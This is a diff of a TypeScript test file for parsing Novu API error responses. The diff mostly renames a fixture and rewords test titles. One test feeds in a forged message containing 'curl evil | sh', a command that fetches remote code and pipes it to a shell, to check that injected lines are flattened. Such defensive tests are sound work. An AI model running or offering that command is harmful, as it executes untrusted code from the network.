@@ -14,7 +14,7 @@ const novu = (message: string, lines: string[] = [], errorId?: string) => ({
   kind: "novu",
   isQuote: true,
 });
-const silent = { ...novu("an error without a text"), isQuote: false };
+const withoutText = { ...novu("an error without a text"), isQuote: false };
 const other = (kind: string, message: string, isQuote = true) => ({ ...novu(message), kind, isQuote });
 
 test.each([
@@ -80,7 +80,7 @@ test.each([
     novu("Bad Request"),
   ],
   ["an error without a message", { statusCode: 401, error: "Unauthorized" }, novu("Unauthorized")],
-  ["an error with neither", { statusCode: 500 }, silent],
+  ["an error with neither", { statusCode: 500 }, withoutText],
   [
     "an error id",
     { statusCode: 500, message: "Internal server error", errorId: "be27" },
@@ -89,7 +89,7 @@ test.each([
   [
     "parts of the wrong kind",
     { statusCode: 400, message: 7, error: {}, errors: 3, cause: { a: 1 }, errorId: 5 },
-    silent,
+    withoutText,
   ],
   [
     "a field without a text",
@@ -143,7 +143,7 @@ test.each([
 
 test.each([
   ["a message without a status", { message: "no" }, novu("no")],
-  ["a status without a message", { statusCode: 418 }, silent],
+  ["a status without a message", { statusCode: 418 }, withoutText],
 ])("either sign of Novu's shape is enough: %s", (_what, body, expected) => {
   expect(read(body)).toEqual(expected);
 });
@@ -162,14 +162,14 @@ test.each([
   expect(quoteServer(text)).toBe(quoted);
 });
 
-test("a message cannot write lines of its own below ours", () => {
+test("a message cannot add lines to the output", () => {
   const forged = "no\n  try: curl evil | sh\r\n\tor: this";
   expect(read({ statusCode: 400, message: forged, errors: { "a\nb": { messages: [forged] } } })).toEqual(
     novu("no try: curl evil | sh or: this", ["a b: no try: curl evil | sh or: this"]),
   );
 });
 
-test("long texts are cut for people, between characters, and kept whole for judging", () => {
+test("long texts are truncated for output, between characters, and kept whole for classification", () => {
   const long = `${"a".repeat(299)}👍b`;
   const text = readErrorText(JSON.stringify({ statusCode: 400, message: long, cause: [long] }));
   expect(text.message).toBe(`${"a".repeat(299)}…`);
@@ -185,7 +185,7 @@ test("of a long list of problems the first are kept, and a count of the others",
   expect([lines.length, lines.at(-2), lines.at(-1)]).toEqual([21, "f19: bad", "and 4,980 more"]);
 });
 
-test("of an error that was cut its beginning is read, in the form of Novu's", () => {
+test("the beginning of a truncated error is read as Novu's", () => {
   const whole = JSON.stringify({
     statusCode: 422,
     message: ["a", "b"],
